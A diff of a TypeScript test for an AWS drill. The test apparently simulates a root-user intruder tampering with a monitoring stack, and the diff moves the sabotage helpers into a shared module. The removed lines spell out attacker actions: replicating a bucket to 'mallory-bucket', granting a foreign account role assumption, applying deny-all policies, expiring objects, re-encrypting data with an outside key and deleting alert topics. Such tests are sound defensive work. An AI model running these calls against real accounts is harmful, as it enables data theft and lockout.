@@ -2,18 +2,11 @@ import { differences, sweep } from '../drill.ts';
 import { FOREIGN_ACCOUNT, type Intruder } from '../intruder.ts';
 import { judge, type Ordeal } from '../ordeal.ts';
 import type { VirtualRange } from '../virtual-range.ts';
+import { spoilBucket, spoilRole, THE_ACCOUNT_ALONE } from './spoil.ts';
 
 const STACK = 'trailkeeper-drill';
 const TopicArn = `arn:aws:sns:us-east-1:123456789012:${STACK}-alerts`;
 const HERS = 'arn:aws:kms:us-east-1:123456789012:key/66666666-6666-4666-8666-666666666666';
-const THE_ACCOUNT_ALONE = JSON.stringify({
-  Version: '2012-10-17',
-  Statement: [
-    { Effect: 'Allow', Principal: { AWS: 'arn:aws:iam::123456789012:root' }, Action: 'kms:*', Resource: '*' },
-  ],
-});
-const DENY_ALL = 'arn:aws:iam::aws:policy/AWSDenyAll';
-
 /** Nothing of the guard's refuses the root user anything. */
 type Root = Intruder['root'];
 
@@ -22,6 +15,8 @@ const queueUrl = (of: string) => `https://sqs.us-east-1.amazonaws.com/1234567890
 
 const roleOf = async ({ lambda }: Root, of: string): Promise<string> =>
   (await lambda.getFunctionConfiguration({ FunctionName: functionNamed(of) })).Role ?? '';
+
+const nameIn = (roleArn: string): string => roleArn.split('/').at(-1) ?? '';
 
 /** What AWS has named, by logical id: the environment of the functions says it. */
 async function nameOf({ lambda }: Root, id: string): Promise<string> {
@@ -60,28 +55,6 @@ async function spoilFunction(root: Root, of: string, role: string): Promise<void
 async function filterMessages(root: Root): Promise<void> {
   const FilterCriteria = { Filters: [{ Pattern: '{"body":["nothing"]}' }] };
   await root.lambda.updateEventSourceMapping({ UUID: await mappingOf(root), FilterCriteria });
-}
-
-async function spoilRole({ iam }: Root, role: string, PolicyName: string): Promise<void> {
-  const RoleName = role.split('/').at(-1) ?? '';
-  await iam.deleteRolePolicy({ RoleName, PolicyName });
-  await iam.putRolePolicy({
-    RoleName,
-    PolicyName: 'hers',
-    PolicyDocument: JSON.stringify({
-      Version: '2012-10-17',
-      Statement: [{ Effect: 'Deny', Action: '*', Resource: '*' }],
-    }),
-  });
-  await iam.attachRolePolicy({ RoleName, PolicyArn: DENY_ALL });
-  await iam.putRolePermissionsBoundary({ RoleName, PermissionsBoundary: DENY_ALL });
-  await iam.updateAssumeRolePolicy({
-    RoleName,
-    PolicyDocument: JSON.stringify({
-      Version: '2012-10-17',
-      Statement: [{ Effect: 'Allow', Principal: { AWS: FOREIGN_ACCOUNT }, Action: 'sts:AssumeRole' }],
-    }),
-  });
 }
 
 async function spoilRules({ events }: Root): Promise<void> {
@@ -141,41 +114,7 @@ async function spoilLedger(root: Root): Promise<void> {
   });
 }
 
-async function spoilSink(root: Root): Promise<void> {
-  const Bucket = await nameOf(root, 'Sink');
-  const { s3 } = root;
-  await s3.deletePublicAccessBlock({ Bucket });
-  await s3.putBucketOwnershipControls({
-    Bucket,
-    OwnershipControls: { Rules: [{ ObjectOwnership: 'ObjectWriter' }] },
-  });
-  await s3.putBucketRequestPayment({ Bucket, RequestPaymentConfiguration: { Payer: 'Requester' } });
-  await s3.putBucketReplication({
-    Bucket,
-    ReplicationConfiguration: {
-      Role: 'arn:aws:iam::123456789012:role/replication',
-      Rules: [{ Status: 'Enabled', Destination: { Bucket: 'arn:aws:s3:::mallory-bucket' } }],
-    },
-  });
-  await s3.putBucketVersioning({ Bucket, VersioningConfiguration: { Status: 'Suspended' } });
-  await s3.putBucketLifecycleConfiguration({
-    Bucket,
-    LifecycleConfiguration: {
-      Rules: [{ Status: 'Enabled', Filter: { Prefix: '' }, Expiration: { Days: 1 } }],
-    },
-  });
-  await s3.putBucketEncryption({
-    Bucket,
-    ServerSideEncryptionConfiguration: {
-      Rules: [{ ApplyServerSideEncryptionByDefault: { SSEAlgorithm: 'aws:kms', KMSMasterKeyID: HERS } }],
-    },
-  });
-  await s3.putBucketLogging({
-    Bucket,
-    BucketLoggingStatus: { LoggingEnabled: { TargetBucket: 'mallory-bucket', TargetPrefix: '' } },
-  });
-  await s3.deleteBucketPolicy({ Bucket });
-}
+const spoilSink = async (root: Root) => spoilBucket(root, await nameOf(root, 'Sink'), HERS);
 
 async function spoilMore(root: Root): Promise<void> {
   await root.sns.deleteTopic({ TopicArn });
@@ -216,8 +155,8 @@ const byWatch: Ordeal = {
       await spoil(root);
     await spoilFunction(root, 'heal', tell);
     await spoilFunction(root, 'tell', heal);
-    await spoilRole(root, heal, 'heal');
-    await spoilRole(root, tell, 'tell');
+    await spoilRole(root, nameIn(heal), 'heal');
+    await spoilRole(root, nameIn(tell), 'tell');
     await sweepTwice(aws, 'schedules');
     const spoilt = left();
     await spoilMore(root);
